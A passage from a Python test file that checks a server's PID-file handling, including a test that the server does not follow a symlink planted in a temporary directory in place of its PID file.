    settings = Settings(db_path=tmp_path / "data" / "log.sqlite3")
    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        start = Path(f"/proc/{sleeper.pid}/stat").read_text().rsplit(")", 1)[1].split()[19]
        write_pid(settings).write_text(f"{sleeper.pid} {start}\n")
        pid, reason = running_server(settings)
        assert pid is None and "not this Python" in reason
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()


def test_f23_a_symlinked_pid_file_is_replaced_not_followed(tmp_path: Path) -> None:
    """A symlink planted at data/signpost.pid no longer makes the server overwrite its target."""
    settings = Settings(db_path=tmp_path / "data" / "log.sqlite3")
    (tmp_path / "data").mkdir()
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    (tmp_path / "data" / "signpost.pid").symlink_to(target)
    path = write_pid(settings)
    assert target.read_text() == "keep me" and not path.is_symlink()
    assert path.read_text().split()[0] == str(os.getpid())
    path.unlink()
    path.symlink_to(target)
    assert running_server(settings) == (None, f"{path} is not a plain file")
